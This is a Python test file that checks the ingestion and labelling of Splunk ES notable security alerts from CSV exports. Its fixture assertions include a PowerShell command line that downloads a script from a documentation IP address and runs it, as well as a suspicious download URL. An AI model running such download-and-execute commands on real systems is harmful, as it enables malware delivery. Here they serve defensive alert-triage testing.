"""conf/data/splunk_es.yaml: Splunk ES notable events exported as CSV, keyed on the disposition."""

import json
from pathlib import Path

from alertlens.alerts.ingest import ingest_to_dir
from alertlens.alerts.mapping import DataMapping
from alertlens.config import load_group_option

GUID = "5C1A9E3B-7D42-4F0B-8E61-2B9D4C7A1F30@@notable@@"
HEADER = "_time,event_id,security_domain,rule_name,orig_host,"


def _mapping(repo_root: Path) -> DataMapping:
    return DataMapping.from_config(load_group_option("data", "splunk_es", root=repo_root))


def _lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_splunk_es_notables_ingest_with_zero_rejects_and_their_evidence_mapped(
    tmp_path: Path, fixtures: Path, repo_root: Path
) -> None:
    counts = ingest_to_dir(
        _mapping(repo_root), fixtures / "splunk_es", tmp_path, max_reject_ratio=0.0
    )
    assert (counts.records_read, counts.accepted, counts.rejected) == (8, 8, 0)
    # TP: disposition:1 twice. FP: 2 (benign positive), 3 and 4. Unlabeled: 5, 6 and empty.
    assert (counts.true_positive, counts.false_positive, counts.unlabeled) == (2, 3, 3)
    alerts = {a["id"].removeprefix(GUID): a for a in _lines(tmp_path / "alerts.jsonl")}

    powershell = alerts["3f9a1c7e5b2d4e6f8a0b1c2d3e4f5a6b"]
    assert (powershell["label"], powershell["source"], powershell["group"]) == (
        1,
        "endpoint",
        "fin-ws-17",
    )
    assert powershell["timestamp"] == 1772446542.0  # 2026-03-02T10:15:42.000+00:00
    ps = powershell["fields"]
    assert ps["command_line"] == (
        'powershell.exe -NoProfile -Command "Invoke-WebRequest -Uri http://203.0.113.50/p.ps1'
        ' -OutFile C:\\Users\\Public\\p.ps1; & C:\\Users\\Public\\p.ps1 -Stage 1,2"'
    )
    assert ps["parent_process"] == "WINWORD.EXE"
    assert ps["parent_command_line"].startswith('"C:\\Program Files\\Microsoft Office\\')
    assert (ps["rule_name"], ps["severity_name"], ps["urgency"], ps["user"]) == (
        "Malicious PowerShell Process - Encoded Command",
        "high",
        "critical",
        "jdoe",
    )
    assert not {"status", "owner", "disposition"} & set(ps)  # the triage is never evidence

    schtasks = alerts["a1b2c3d4e5f60718293a4b5c6d7e8f90"]
    assert schtasks["label"] == 0  # False Positive - Incorrect Analytic Logic
    assert '/tn "Contoso\\Inventory, nightly" /tr' in schtasks["fields"]["command_line"]

    exploit = alerts["9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b"]
    assert (exploit["label"], exploit["source"], exploit["group"]) == (
        0,
        "network",
        "ids-sensor-01",
    )
    assert exploit["timestamp"] == 1772456733.0  # 14:05:33+01:00
    net = exploit["fields"]
    assert (net["src_ip"], net["src_port"], net["dest_ip"], net["dest_port"]) == (
        "198.51.100.23",
        51522,
        "10.1.2.15",
        445,
    )
    assert net["dest"] == "files-01.corp.example"  # a host name: text, not ip
    assert net["ids_signature"] == "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Request (set)"

    scanner = alerts["0f1e2d3c4b5a69788796a5b4c3d2e1f0"]
    assert (scanner["label"], scanner["fields"]["src_ip"]) == (0, "10.0.5.4")  # benign positive

    brute = alerts["c0ffee00deadbeef0123456789abcdef"]
    assert (brute["label"], brute["source"], brute["timestamp"]) == (1, "access", 1772460760.0)
    assert (brute["fields"]["failed_logins"], brute["fields"]["auth_service"]) == (48, "sshd")
    assert brute["fields"]["src"] == "203.0.113.77" and "src_ip" not in brute["fields"]

    threat = alerts["7a6b5c4d3e2f10fedcba987654321012"]
    assert (threat["label"], threat["source"], threat["group"]) == (None, "threat", "proxy-01")
    assert threat["fields"]["url"] == "http://203.0.113.50/dl/update.php?id=7731&os=win"
    assert threat["fields"]["user_agent"].endswith("WindowsPowerShell/5.1.19041.4291")

    untriaged = alerts["112233445566778899aabbccddeeff00"]  # no disposition at all
    assert (untriaged["label"], untriaged["source"]) == (None, "identity")
    assert alerts["ffeeddccbbaa99887766554433221100"]["label"] is None  # Other


def test_an_unknown_disposition_is_rejected(tmp_path: Path, repo_root: Path) -> None:
    export = tmp_path / "notables.csv"
    export.write_text(
        HEADER + "disposition,disposition_label\n"
        f"2026-03-02T10:00:00.000+00:00,{GUID}01,endpoint,R,ws-1,disposition:7,Testing\n"
    )
    counts = ingest_to_dir(_mapping(repo_root), export, tmp_path / "out", max_reject_ratio=1.0)
    assert (counts.accepted, counts.rejected_by_reason["unknown_label"]) == (0, 1)
    [reject] = _lines(tmp_path / "out" / "rejected.jsonl")
    assert reject["reason"] == "unknown_label" and "disposition:7" in reject["message"]


def test_an_export_with_only_the_disposition_label_is_read(tmp_path: Path, repo_root: Path) -> None:
    export = tmp_path / "queue.csv"
    export.write_text(
        HEADER + "disposition_label\n"
        f"2026-03-02T10:00:00.000+00:00,{GUID}01,endpoint,R,ws-1,true positive - suspicious activity\n"
        f"2026-03-02T10:01:00.000+00:00,{GUID}02,endpoint,R,ws-1,Benign Positive - Suspicious But Expected\n"
        f"2026-03-02T10:02:00.000+00:00,{GUID}03,endpoint,R,ws-1,Undetermined\n"
    )
    counts = ingest_to_dir(_mapping(repo_root), export, tmp_path / "out", max_reject_ratio=0.0)
    assert (counts.true_positive, counts.false_positive, counts.unlabeled) == (1, 1, 1)
